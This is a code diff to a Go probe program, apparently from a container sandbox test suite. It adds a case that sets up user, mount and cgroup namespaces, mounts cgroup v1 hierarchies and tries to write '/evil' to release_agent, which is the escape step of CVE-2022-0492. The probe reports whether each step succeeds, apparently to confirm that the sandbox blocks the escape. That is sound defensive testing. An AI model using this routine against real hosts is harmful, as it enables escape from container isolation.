@@ -40,6 +40,7 @@ const probeSource = `package main
 import (
 	"fmt"
 	"os"
+	"os/exec"
 	"path/filepath"
 	"strconv"
 	"strings"
@@ -187,6 +188,40 @@ func main() {
 			}
 		}
 		fmt.Println("done")
+	case "cgroupescape":
+		// cgroupescape DIR: in a new user+mount+cgroup namespace, mount a
+		// v1 hierarchy at DIR and try to set its release_agent (CVE-2022-0492).
+		cmd := exec.Command("/proc/self/exe", "cgroupescape-child", os.Args[2])
+		cmd.Stdout, cmd.Stderr = os.Stdout, os.Stdout
+		cmd.SysProcAttr = &syscall.SysProcAttr{
+			Cloneflags:  syscall.CLONE_NEWUSER | syscall.CLONE_NEWNS | 0x02000000, // CLONE_NEWCGROUP
+			UidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: os.Getuid(), Size: 1}},
+			GidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: os.Getgid(), Size: 1}},
+		}
+		if err := cmd.Run(); err != nil {
+			fmt.Println("child:", err)
+		}
+	case "cgroupescape-child":
+		dir := os.Args[2]
+		os.MkdirAll(dir, 0o755)
+		for _, h := range []string{"rdma", "memory", "none,name=berthtest"} {
+			if err := syscall.Mount("cgroup", dir, "cgroup", 0, h); err != nil {
+				fmt.Println("mount", h, err)
+				continue
+			}
+			fmt.Println("MOUNTED", h)
+			if f, err := os.OpenFile(dir+"/release_agent", os.O_WRONLY, 0); err == nil {
+				if _, err := f.WriteString("/evil"); err == nil {
+					fmt.Println("RELEASE-AGENT-WRITTEN", h)
+				} else {
+					fmt.Println("write release_agent", err)
+				}
+				f.Close()
+			} else {
+				fmt.Println("open release_agent", err)
+			}
+			syscall.Unmount(dir, 0)
+		}
 	case "status":
 		// status: the credential lines of /proc/self/status.
 		b, _ := os.ReadFile("/proc/self/status")
